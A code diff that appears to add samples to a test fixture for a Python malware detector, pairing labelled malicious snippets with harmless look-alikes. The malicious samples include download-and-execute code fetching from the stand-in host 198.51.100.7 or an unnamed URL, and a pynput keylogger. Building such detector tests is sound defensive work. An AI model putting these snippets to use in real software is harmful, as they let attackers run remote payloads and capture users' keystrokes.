@@ -86,6 +86,26 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
 
 POSITIVE += (
     (
+        "PYS-007",
+        PY,
+        "import urllib.request, subprocess, tempfile, os\n"
+        "p = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
+        "urllib.request.urlretrieve('http://198.51.100.7/u', p)\nsubprocess.Popen(p)",
+    ),
+    (
+        "PYS-007",
+        PY,
+        "import requests, os\nopen('/tmp/.d', 'wb').write(requests.get(u).content)\n"
+        "os.chmod('/tmp/.d', 0o755)\nos.system('/tmp/.d &')",
+    ),
+    (
+        "PYS-008",
+        PY,
+        "from pynput.keyboard import Listener\ndef on_press(key):\n"
+        "    with open('k.log', 'a') as f:\n        f.write(str(key))\n"
+        "with Listener(on_press=on_press) as l:\n    l.join()",
+    ),
+    (
         "PYS-018",
         PY,
         "import socket, random\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
@@ -160,6 +180,16 @@ BENIGN: tuple[tuple[Lang, str], ...] = (
         PY,
         "import smtplib\nfor user in users:\n    s = smtplib.SMTP(host)\n"
         "    s.login(sender, os.environ['SMTP_PASSWORD'])",
+    ),
+    (
+        PY,
+        "from pynput import keyboard\ndef on_press(key):\n    if key == keyboard.Key.f9:\n"
+        "        toggle()\nwith open('settings.json', 'w') as f:\n    f.write(json.dumps(cfg))",
+    ),
+    (
+        PY,
+        "import requests, subprocess\nr = requests.get(api, timeout=5)\n"
+        "subprocess.run(['notify-send', r.json()['title']])",
     ),
     (PY, "from scapy.all import sniff\nsniff(prn=lambda p: p.summary(), count=10)"),
     (
